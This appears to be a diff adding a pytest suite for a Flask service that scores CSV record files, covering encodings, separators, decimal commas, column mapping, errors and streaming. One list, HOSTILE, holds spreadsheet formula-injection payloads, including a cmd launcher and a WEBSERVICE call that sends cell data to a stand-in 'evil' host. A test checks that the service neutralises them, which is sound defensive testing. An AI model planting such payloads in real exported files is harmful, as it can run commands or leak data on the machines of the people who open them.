@@ -1,0 +1,605 @@
+"""Files of records: what is read out of them, what comes back, and how."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import socket
+from collections.abc import Iterator, Sequence
+from pathlib import Path
+from typing import Any
+
+import psutil
+import pytest
+from flask.testing import FlaskClient
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from werkzeug.test import TestResponse
+
+from segmentation.batch import RecordFile, score, write
+from segmentation.batch.reading import LONGEST_ROW, MOST_COLUMNS
+from segmentation.batch.writing import COLUMNS, neutral
+from segmentation.errors import InvalidRecordsError
+from segmentation.runtime import Model
+from segmentation.schema import Record
+from segmentation.service.app import create_app
+from segmentation.service.settings import Settings
+from tests.conftest import COMPLETE, MODEL, STUDIES, Server, serving, wait_until
+
+MIXED = 'User ID;Größe;Screen On Time (hours/day)\r\n1;"a;\r\nb";4,7\r\n2;é;11,25\r\n'
+"""Header in the survey's words, an unknown column with a quoted line break, decimal commas."""
+
+NO_TEXT = "The file is not text in UTF-8, UTF-16 or Windows-1252."
+
+
+def post(
+    client: FlaskClient, body: bytes, path: str = "/predict/file", **options: Any
+) -> TestResponse:
+    """POST a file."""
+    return client.post(path, data=body, **({"content_type": "text/csv"} | options))
+
+
+def rows_of(text: str, separator: str = ",") -> list[dict[str, str]]:
+    """Read a CSV file as its receiver would."""
+    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=separator, strict=True))
+
+
+def table_of(rows: Sequence[Sequence[object]], separator: str = ",") -> bytes:
+    """Write a CSV file; None is an empty cell."""
+    file = io.StringIO(newline="")
+    csv.writer(file, delimiter=separator).writerows(rows)
+    return file.getvalue().encode()
+
+
+def scored(model: Model, content: bytes, wanted: dict[str, str] | None = None) -> list[Any]:
+    """Return the scored rows of a file."""
+    file = RecordFile(io.BytesIO(content), model.manifest.record, wanted)
+    return [row for rows in score(model, file) for row in rows]
+
+
+def detail(response: TestResponse, status: int) -> str:
+    """Check that an answer is a problem document, and return what it says."""
+    assert response.status_code == status, response.text
+    assert response.content_type == "application/problem+json"
+    return str(json.loads(response.data)["detail"])
+
+
+def columns_of(answer: dict[str, Any]) -> dict[str, str]:
+    """Return what a file says of an answer, by hand from the JSON of /predict."""
+    ranked = sorted(answer["probabilities"], key=lambda one: -one["probability"])
+    others = [one["id"] for one in ranked if one["id"] != answer["segment"]["id"]]
+    return {
+        "segment": answer["segment"]["id"],
+        "segment_name": answer["segment"]["name"],
+        "confidence": f"{answer['confidence']:.6f}",
+        "runner_up": others[0],
+        "plausible": "|".join(answer["plausible"]),
+        "unsure": json.dumps(answer["unsure"]),
+        "basis": answer["basis"],
+        "warnings": "|".join(
+            f"{one['field']}: {one['code']}" if one["field"] else one["code"]
+            for one in answer["warnings"]
+        ),
+        "problem": "",
+    }
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
+@pytest.mark.parametrize(
+    ("codec", "name"),
+    [
+        ("utf-8", "UTF-8"),
+        ("utf-8-sig", "UTF-8"),
+        ("utf-16", "UTF-16"),
+        ("cp1252", "Windows-1252"),
+    ],
+)
+@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
+def test_what_spreadsheet_programs_save_is_read(
+    client: FlaskClient, separator: str, codec: str, name: str, ends: str
+) -> None:
+    """Each separator, encoding and end of line; umlauts come out in UTF-8, marked if need be."""
+    lines = [
+        ["Age", "Straße", "Number of Apps Installed"],
+        ["33", "Käthe", "64"],
+        ["34", "é", "12"],
+    ]
+    text = "".join(separator.join(line) + ends for line in lines)
+    response = post(client, text.encode(codec))
+    assert response.status_code == 200, response.text
+    assert response.headers["X-File-Encoding"] == name
+    assert response.headers["X-Ignored-Columns"] == "Stra%C3%9Fe"
+    assert response.data.startswith(b"\xef\xbb\xbf") == (codec != "utf-8")
+    answered = rows_of(response.data.decode("utf-8-sig"), separator)
+    assert [row["Straße"] for row in answered] == ["Käthe", "é"]
+    expected = client.post(
+        "/predict", json=[{"age": 33, "apps_installed": 64}, {"age": 34, "apps_installed": 12}]
+    )
+    for row, answer in zip(answered, expected.json["predictions"], strict=True):
+        assert {key: row[key] for key in COLUMNS} == columns_of(answer)
+
+
+def test_a_quoted_line_break_and_a_blank_line_count_as_lines(model: Model) -> None:
+    """A row is told by the line in which it begins."""
+    content = b'Name,age,apps_installed\r\n"a\r\nb",33,64\r\n\r\n  \r\nc,34,x\r\n'
+    good, bad = scored(model, content)
+    assert (good.line, good.cells[0], good.answer["segment"]["id"]) == (
+        2,
+        "a\r\nb",
+        "brand_loyalist",
+    )
+    assert (bad.line, bad.answer) == (6, None)
+    assert [(one.row, one.field, one.code) for one in bad.problems] == [
+        (1, "apps_installed", "type")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("cells", "values"),
+    [
+        (["4,7", "4.7"], [4.7, 4.7]),
+        (["0,125", "10,5"], [0.125, 10.5]),
+        (["1,5e1", "5"], [15.0, 5.0]),
+        (["4,5", "1,234"], [4.5, 1.234]),
+        (["4.5", "1.234"], [4.5, 1.234]),
+        (["4,5", "1.234"], [4.5, None]),
+        (["4.5", "1,234"], [4.5, None]),
+        (["1,234", "1.234"], [None, None]),
+        (["4,5", "4.5", "1.234", "1,234"], [4.5, 4.5, None, None]),
+        (
+            ["4,5", "1.234,5", "1 234,5", "1\u00a0234,5", "1\u202f234"],
+            [4.5, None, None, None, None],
+        ),
+        (["4,5", "1'234.5", "1.234.567", "1,234.5"], [4.5, None, None, None]),
+        ([",5", "-,5"], [0.5, -0.5]),
+    ],
+)
+def test_a_decimal_comma_is_read_where_it_can_be_nothing_else(
+    models: dict[str, Model], cells: list[str], values: list[float | None]
+) -> None:
+    """Otherwise the row is bad, and the others are not."""
+    model = models["credit_card"]
+    content = table_of([["PURCHASES", "BALANCE"], *([5, cell] for cell in cells)], ";")
+    for row, value in zip(scored(model, content), values, strict=True):
+        if value is None:
+            (problem,) = row.problems
+            assert (problem.field, problem.code) == ("BALANCE", "ambiguous")
+            continue
+        try:
+            assert [row.answer] == model.predict([{"purchases": 5, "balance": value}])
+        except InvalidRecordsError:
+            assert [one.code for one in row.problems] == ["range"]
+
+
+def test_where_commas_separate_cells_numbers_have_points(model: Model) -> None:
+    """A quoted 4,7 is refused there, and 1.234 is a number; 1,234 may be a thousand."""
+    content = b'screen_on_hours_per_day\n"4,7"\n1.234\n"1,234"\n'
+    codes = [[one.code for one in row.problems] for row in scored(model, content)]
+    assert codes == [["type"], [], ["ambiguous"]]
+
+
+def test_the_confidence_has_the_files_own_decimal_mark(client: FlaskClient) -> None:
+    """So that the spreadsheet that wrote the file reads it as a number."""
+    response = post(client, MIXED.encode("cp1252"))
+    answered = rows_of(response.data.decode("utf-8-sig"), ";")
+    assert [bool(re.fullmatch(r"0,\d{6}|1,000000", row["confidence"])) for row in answered] == [
+        True
+    ] * 2
+    assert answered[0]["Größe"] == "a;\r\nb"
+
+
+@pytest.mark.parametrize("study", STUDIES)
+def test_every_sample_is_answered_like_its_records(
+    client: FlaskClient, models: dict[str, Model], samples: dict[str, list[Record]], study: str
+) -> None:
+    """Row by row, in order, in each study; original columns stay as they are."""
+    records = samples[study][:300]
+    header = list(dict.fromkeys(name for record in records for name in record))
+    body = table_of([header, *([record.get(name) for name in header] for record in records)])
+    response = post(client, body, f"/studies/{study}/predict/file")
+    assert response.status_code == 200
+    answered = rows_of(response.text)
+    assert response.text.endswith("\r\n")
+    for row, original, answer in zip(
+        answered, rows_of(body.decode()), models[study].predict(records), strict=True
+    ):
+        assert {key: row[key] for key in COLUMNS} == columns_of(answer)
+        assert {key: row[key] for key in header} == original
+
+
+CELLS = st.fixed_dictionaries(
+    {
+        "user_id": st.one_of(st.none(), st.integers(1, 10**9)),
+        "app_usage_min_per_day": st.one_of(st.none(), st.integers(-5, 2000)),
+        "screen_on_hours_per_day": st.one_of(st.none(), st.floats(-1, 30)),
+        "apps_installed": st.one_of(st.none(), st.integers(0, 300)),
+        "gender": st.one_of(st.none(), st.text("abc äöü,;\"'\t\n", min_size=1).filter(str.strip)),
+    }
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(records=st.lists(CELLS, min_size=1, max_size=40), separator=st.sampled_from(",;\t"))
+def test_any_records_are_answered_in_order_as_by_predict(
+    model: Model, records: list[Record], separator: str
+) -> None:
+    """What /predict refuses is the one that has a problem."""
+    stripped = [
+        record | {"gender": record["gender"] and record["gender"].strip()} for record in records
+    ]
+    header = list(records[0])
+    content = table_of([header, *([r[name] for name in header] for r in stripped)], separator)
+    # Decimals are repr: 1.234 alone would be one that can be read in two ways.
+    rows = scored(model, content + table_of([["", "", "0.5", "", ""]], separator))[:-1]
+    for row, record in zip(rows, stripped, strict=True):
+        try:
+            assert [row.answer] == model.predict([record])
+        except InvalidRecordsError as error:
+            assert row.answer is None
+            known = {(one.field, one.message) for one in error.problems}
+            assert {(one.field, one.message) for one in row.problems} == known
+
+
+def test_bad_rows_are_told_by_line_field_and_reason(client: FlaskClient) -> None:
+    """While the good ones between them are scored."""
+    body = (
+        b"Age,Number of Apps Installed,Note\n"
+        b"33,64,fine\n"
+        b"300,x,two problems\n"
+        b"33\n"
+        b"33,64,more,cells\n"
+        b"33,,nothing to go by\n"
+        b"33,64,fine again,,\n"
+    )
+    answered = rows_of(post(client, body).text)
+    assert [bool(row["segment"]) for row in answered] == [True, False, False, False, False, True]
+    assert [row["problem"] for row in answered] == [
+        "",
+        "line 3, Age: must be a whole number from 0 to 120 (years);"
+        " Number of Apps Installed: must be a number from 0 to 2000 (apps)",
+        "line 4: has 1 cell, the header has 3",
+        "line 5: has 4 cells, the header has 3",
+        "line 6: needs at least one of: app_usage_min_per_day, screen_on_hours_per_day,"
+        " battery_drain_mah_per_day, apps_installed, data_usage_mb_per_day",
+        "",
+    ]
+    bad = answered[1]
+    assert all(bad[name] == "" for name in COLUMNS if name != "problem")
+    assert (bad["Age"], bad["Number of Apps Installed"]) == ("300", "x")
+
+
+HOSTILE = (
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","x")', "=SUM(A1:A9)", "==1", "= 1",
+    "+1+1", "+cmd|' /C calc'!A0", "+A1", "++1", "+", "-1+1", "-A1", "-cmd|' /C calc'!A0", "--1",
+    "-", "-1.5.2", "@SUM(A1)", "@", "@A1", "\t=1+1", "\tx", "\r=1+1", "\rx", "\n=1+1",
+    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1", "=WEBSERVICE(\"http://evil/\"&A1)", "-1e5x",
+    "=\u202e1", "+1 (2)",
+)  # fmt: skip
+HARMLESS = ("-1.5", "+1.5", "-1,5", "-1", "+49123", "-.5", "-1e5", "1=1", "a@b", "x-y", "'=1", "")
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
+def test_cells_that_a_spreadsheet_would_run_are_neutralised(
+    client: FlaskClient, separator: str
+) -> None:
+    """With an apostrophe in front, cells and headers; plain numbers stay, and so do all others."""
+    cells = [*HOSTILE, *HARMLESS]
+    body = table_of(
+        [["age", "apps_installed", "=note"], *([33, 64, cell] for cell in cells)], separator
+    )
+    response = post(client, body)
+    answered = rows_of(response.text, separator)
+    assert [row["'=note"] for row in answered] == [*("'" + cell for cell in HOSTILE), *HARMLESS]
+    assert {row["segment"] for row in answered} == {"brand_loyalist"}
+
+
+def test_a_hostile_cell_in_a_bad_row_is_neutralised_as_well(client: FlaskClient) -> None:
+    """And the problem that goes with it doesn't repeat it."""
+    header = "apps_installed"
+    (row,) = rows_of(post(client, f"{header},x\n=1+1,\n".encode()).text)
+    assert row[header] == "'=1+1"
+    assert row["problem"] == "line 2, apps_installed: must be a number from 0 to 2000 (apps)"
+
+
+def test_a_hostile_name_of_a_mapped_column_is_told_as_it_is(client: FlaskClient) -> None:
+    """Inside a sentence it is harmless."""
+    body = b"=apps\nx\n"
+    (row,) = rows_of(post(client, body, "/predict/file?map=%3Dapps:apps_installed").text)
+    assert row["'=apps"] == "x"
+    assert row["problem"].startswith("line 2, =apps: ")
+    assert neutral(row["problem"]) == row["problem"]
+
+
+def test_names_that_are_taken_give_ours_a_number(client: FlaskClient) -> None:
+    """An answered file can be scored again."""
+    once = post(client, b"age,apps_installed\n33,64\n")
+    twice = post(client, once.data)
+    assert twice.text.splitlines()[0].split(",") == [
+        "age", "apps_installed", *COLUMNS, *(f"{name}_2" for name in COLUMNS)
+    ]  # fmt: skip
+    (row,) = rows_of(twice.text)
+    assert [row[name] for name in COLUMNS] == [row[f"{name}_2"] for name in COLUMNS]
+
+
+def test_headers_are_found_in_every_spelling_and_case(model: Model) -> None:
+    """Trimmed, by name, title or alias; the one that is spelled right goes first."""
+    header = b" AGE ,age,number  of apps installed,Screen on time (MIN/day),Mood"
+    file = RecordFile(io.BytesIO(header + b"\n1,2,3,60,x\n"), model.manifest.record)
+    assert file.fields == [None, "age", "apps_installed", "Screen On Time (min/day)", None]
+    assert file.ignored == [" AGE ", "Mood"]
+    (row,) = (row for rows in score(model, file) for row in rows)
+    assert [row.answer] == model.predict(
+        [{"age": 2, "apps_installed": 3, "screen_on_hours_per_day": 1}]
+    )
+
+
+def test_the_target_is_passed_on_and_not_read(model: Model) -> None:
+    """The samples themselves can be scored."""
+    content = b"Number of Apps Installed,User Behavior Class\n64,5\n"
+    assert RecordFile(io.BytesIO(content), model.manifest.record).fields == ["apps_installed", None]
+
+
+def test_columns_are_mapped_as_the_caller_says(client: FlaskClient) -> None:
+    """To fields in any spelling, or to nothing; that goes before what their headers say."""
+    body = b"Apps: all,Screen,apps_installed,age\n64,366,1,300\n"
+    path = (
+        "/predict/file?map=Apps:%20all:apps_installed&map=Screen:Screen On Time (min/day)&map=age:"
+    )
+    response = post(client, body, path)
+    assert response.headers["X-Ignored-Columns"] == "apps_installed,age"
+    (row,) = rows_of(response.text)
+    answer = client.post("/predict", json={"apps_installed": 64, "screen_on_hours_per_day": 6.1})
+    assert {key: row[key] for key in COLUMNS} == columns_of(answer.json)
+
+
+@pytest.mark.parametrize(
+    ("query", "said"),
+    [
+        ("map=age", "Mapping 1 has no colon."),
+        ("map=age:age&map=Note:nothing", "Mapping 2 names no field; there are user_id, "),
+        ("map=Note:User Behavior Class", "Mapping 1 names no field; there are user_id, "),
+        ("map=Other:age", "Mapping 1 is of a column that the file does not have."),
+        ("map=Note:age&map=Note:gender", "Mapping 2 is of a column that has one already."),
+        ("map=Note:age&map=age:age", "2 columns are read as age; "),
+    ],
+)
+def test_a_mapping_that_cannot_be_is_a_400(client: FlaskClient, query: str, said: str) -> None:
+    """It is named by its number; what was sent is not repeated."""
+    body = b"age,apps_installed,Note\n33,64,\n"
+    assert detail(post(client, body, f"/predict/file?{query}"), 400).startswith(said)
+
+
+@pytest.mark.parametrize(
+    ("body", "said"),
+    [
+        (b"", "The file is empty."),
+        (b"\xef\xbb\xbf", "The file is empty."),
+        (b"\r\n  \r\n", "The file is empty."),
+        (b"age,apps_installed\r\n", "The file has a header but no rows."),
+        (b"age,apps_installed\r\n\r\n", "The file has a header but no rows."),
+        (b"Zaphod,4242\n5,6\n", "No column of the file has a name that is known; "),
+        (b"age,Age,apps_installed\n5,6,7\n", "2 columns are read as age; "),
+        (b'age\n33\n"33\n34\n', "The row that begins in line 3 is not CSV: "),
+        (b'age\n"33"4\n', "The row that begins in line 2 is not CSV: "),
+        (b"age\n" + b"3" * (LONGEST_ROW + 1), "The row that begins in line 2 is longer than "),
+        (b'age\n"' + b"3\n" * LONGEST_ROW, "The row that begins in line 2 is longer than "),
+        (b"," * LONGEST_ROW * 2, "The row that begins in line 1 is longer than "),
+        (b"age" + b"," * MOST_COLUMNS, f"The file has more than {MOST_COLUMNS} columns."),
+        (b"PK\x03\x04\x14\0\x06\0", f"{NO_TEXT} It looks like a workbook"),
+        (b"age\n3\x003\n", NO_TEXT),
+        (b"age\n\x81\x8d\n", NO_TEXT),
+        (b"\xef\xbb\xbfage\n\xff\n", "The file is not text in UTF-8."),
+        (b"\xff\xfeage", "The file is not text in UTF-16."),
+        ("age\n33".encode("utf-32"), "The file is not text in UTF-16."),
+    ],
+)  # fmt: skip
+def test_a_file_of_which_nothing_can_be_scored_is_a_422(
+    client: FlaskClient, body: bytes, said: str
+) -> None:
+    """Before the first byte of an answer, with the exact reason and no value."""
+    # werkzeug's client leaves the length of nothing out.
+    told = detail(post(client, body, environ_overrides={"CONTENT_LENGTH": str(len(body))}), 422)
+    assert told.startswith(said)
+    assert "Zaphod" not in told
+    assert "4242" not in told
+
+
+@pytest.mark.parametrize(
+    "content_type", ["", "application/json", "multipart/form-data", "text/html"]
+)
+def test_another_content_type_is_a_415(client: FlaskClient, content_type: str) -> None:
+    """With the one that is meant."""
+    response = post(client, b"age\n3\n", content_type=content_type)
+    assert "text/csv" in detail(response, 415)
+    assert response.headers["Accept"] == "text/csv"
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    ["text/csv; charset=latin-1", "Text/CSV", "text/plain", "application/octet-stream"],
+)
+def test_what_browsers_and_programs_call_a_csv_file_is_taken(
+    client: FlaskClient, content_type: str
+) -> None:
+    """The encoding is found out, whatever they say."""
+    body = "age,apps_installed,Note\n33,64,é\n".encode()
+    (row,) = rows_of(post(client, body, content_type=content_type).text)
+    assert row["Note"] == "é"
+
+
+def test_a_compressed_file_is_a_415(client: FlaskClient) -> None:
+    """As everywhere."""
+    detail(post(client, b"\x1f\x8b", headers={"Content-Encoding": "gzip"}), 415)
+
+
+def test_a_longer_file_than_allowed_is_a_413() -> None:
+    """The limit is one of its own: the one of other bodies doesn't apply."""
+    limits = Settings(model_path=MODEL, max_body_bytes=1024, max_file_bytes=3000)
+    client = create_app(limits).test_client()
+    body = b"age,apps_installed\n" + b"33,64\n" * 400
+    assert post(client, body).status_code == 200
+    assert "3000 bytes" in detail(post(client, body + b"33,64\n" * 200), 413)
+
+
+def test_no_model_and_no_study_are_told_before_the_file_is_read(tmp_path: Path) -> None:
+    """As by other routes."""
+    client = create_app(Settings(model_path=tmp_path / "none.bin")).test_client()
+    detail(post(client, b"age\n3\n"), 503)
+    detail(post(client, b"age\n3\n", "/studies/none/predict/file"), 404)
+
+
+def test_an_answer_is_a_file_to_save(client: FlaskClient) -> None:
+    """With a fixed name; what was sent doesn't get into headers unescaped."""
+    response = post(client, b'age,apps_installed,"a,\r\nb"\n33,64,\n')
+    assert response.content_type == "text/csv; charset=utf-8; header=present"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="segments.csv"'
+    assert response.headers["X-Ignored-Columns"] == "a%2C%0D%0Ab"
+    many = ",".join(f"column {number}" for number in range(400))
+    header = post(client, f"age,apps_installed,{many}\n".encode() + b"33,64" + b"," * 400).headers
+    assert len(header["X-Ignored-Columns"]) <= 2004
+    assert re.fullmatch(r"(column%20\d+,)+\.\.\.", header["X-Ignored-Columns"])
+
+
+def test_metrics_count_the_answers_of_files() -> None:
+    """Of those rows that were answered."""
+    client = create_app(Settings(model_path=MODEL)).test_client()
+    response = post(client, b"age,apps_installed\n" + b"33,64\n" * 40 + b"300,1\n")
+    assert response.data.count(b"\r\n") == 42
+    text = client.get("/metrics").text
+    assert 'segmentation_answers_total{segment="brand_loyalist",study="mobile"} 40.0' in text
+    assert 'route="/predict/file",status="200"} 1.0' in text
+
+
+class Counted(io.BytesIO):
+    """A file that counts what is read of it."""
+
+    n_read = 0
+
+    def read1(self, size: int | None = -1) -> bytes:
+        """Read, and count."""
+        content = super().read1(size)
+        self.n_read += len(content)
+        return content
+
+
+def test_rows_go_out_before_later_ones_are_read(model: Model) -> None:
+    """The first answers are made of the first rows."""
+    stream = Counted(b"age,apps_installed\n" + b"33,64\n" * 50_000)
+    file = RecordFile(stream, model.manifest.record)
+    stream.n_read = 0
+    written = write(file, score(model, file))
+    assert next(written).startswith(b"age,apps_installed,segment,")
+    assert next(written).count(b"brand_loyalist") > 0
+    assert 0 < stream.n_read < 50_000
+
+
+@pytest.fixture(scope="module")
+def one_worker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """A service with one worker and a small limit for other bodies."""
+    with serving(
+        tmp_path_factory.mktemp("files"), WEB_CONCURRENCY="1", MAX_BODY_BYTES="2048"
+    ) as server:
+        yield server
+
+
+def test_the_first_answers_arrive_while_later_rows_wait(one_worker: Server) -> None:
+    """Over a real connection, from a body in chunks.
+
+    The client stops reading after the first bytes: the answer is longer than all buffers between,
+    so that the service can't have made all of it, and answers others meanwhile.
+    """
+    n_rows = 150_000
+    body = b"age,apps_installed,Note\n" + b"33,64,%s\n" % (b"x" * 40) * n_rows
+    head = (
+        b"POST /predict/file HTTP/1.1\r\nHost: test\r\nContent-Type: text/csv\r\n"
+        b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
+    )
+    with socket.create_connection(("127.0.0.1", one_worker.port), timeout=60) as sock:
+        sock.sendall(head + b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body))
+        received = sock.recv(1024)
+        assert received.startswith(b"HTTP/1.1 200 OK")
+        assert one_worker.post(COMPLETE).status == 200
+        counts = re.findall(
+            r"segmentation_answers_total\{.*\} (\S+)", one_worker.get("/metrics").body.decode()
+        )
+        assert 0 < sum(map(float, counts)) < n_rows
+        parts = [received]
+        while part := sock.recv(1 << 16):
+            parts.append(part)
+    assert b"".join(parts).count(b",brand_loyalist,Brand Loyalist,") == n_rows
+
+
+def worker_of(server: Server) -> psutil.Process:
+    """Return the one worker of a service."""
+    (worker,) = psutil.Process(server.process.pid).children()
+    return worker
+
+
+def peak_of(process: psutil.Process) -> int:
+    """Return the most memory that a process has had so far, in bytes."""
+    status = Path(f"/proc/{process.pid}/status").read_text()
+    return int(re.search(r"^VmHWM:\s+(\d+) kB", status, re.MULTILINE)[1]) * 1024
+
+
+def test_a_client_that_goes_away_leaves_no_file_behind(one_worker: Server) -> None:
+    """What it sent is given up as soon as nobody reads the answer."""
+    worker = worker_of(one_worker)
+    assert one_worker.get("/livez").status == 200
+    before = worker.num_fds()
+    body = b"age,apps_installed\n" + b"33,64\n" * 500_000
+    head = (
+        b"POST /predict/file HTTP/1.1\r\nHost: test\r\nContent-Type: text/csv\r\n"
+        b"Content-Length: %d\r\n\r\n" % len(body)
+    )
+    with socket.create_connection(("127.0.0.1", one_worker.port), timeout=60) as sock:
+        sock.sendall(head + body)
+        assert sock.recv(1024).startswith(b"HTTP/1.1 200 OK")
+        assert worker.num_fds() > before
+    wait_until(lambda: worker.num_fds() <= before)
+
+
+def test_a_client_that_stops_reading_gives_its_thread_back(tmp_path: Path) -> None:
+    """After as many seconds as it may pause; the file is given up, and the log says so."""
+    settings = {"WEB_CONCURRENCY": "1", "THREADS": "1", "READ_TIMEOUT": "1"}
+    body = b"age,apps_installed\n" + b"33,64\n" * 500_000
+    head = (
+        b"POST /predict/file HTTP/1.1\r\nHost: test\r\nContent-Type: text/csv\r\n"
+        b"Content-Length: %d\r\n\r\n" % len(body)
+    )
+    with (
+        serving(tmp_path, **settings) as server,
+        socket.create_connection(("127.0.0.1", server.port), timeout=60) as sock,
+    ):
+        sock.sendall(head + body)
+        assert sock.recv(1024).startswith(b"HTTP/1.1 200 OK")
+        assert server.post(COMPLETE).status == 200
+        assert "paused in the middle" in server.log.read_text()
+
+
+def test_the_memory_of_a_worker_stays_the_same_however_long_a_file_is(one_worker: Server) -> None:
+    """A file of 30 MB takes some more than one of 3 MB: less than a third of its length."""
+    worker = worker_of(one_worker)
+    header, row = b"age,apps_installed,Note\n", b"33,64,%b\n" % (b"x" * 990)
+    send = {"path": "/predict/file", "Content_Type": "text/csv"}
+    assert one_worker.post(header + row * 3_000, **send).status == 200
+    before = peak_of(worker)
+    reply = one_worker.post(header + row * 30_000, **send)
+    assert reply.body.count(b"\r\n") == 30_001
+    assert peak_of(worker) - before < 10_000_000
+
+
+def test_the_log_has_the_number_of_records_and_nothing_of_the_file(one_worker: Server) -> None:
+    """Also none of the mapping in the query."""
+    path = "/predict/file?map=Zaphod:apps_installed"
+    one_worker.post(b"Zaphod,Note\n64,4242\nx,\n", path, Content_Type="text/csv")
+
+    def logged() -> list[object]:
+        lines = one_worker.log_lines()
+        return [line["records"] for line in lines if line.get("route") == "/predict/file"]
+
+    wait_until(lambda: 2 in logged())
+    text = one_worker.log.read_text()
+    assert "Zaphod" not in text
+    assert "4242" not in text
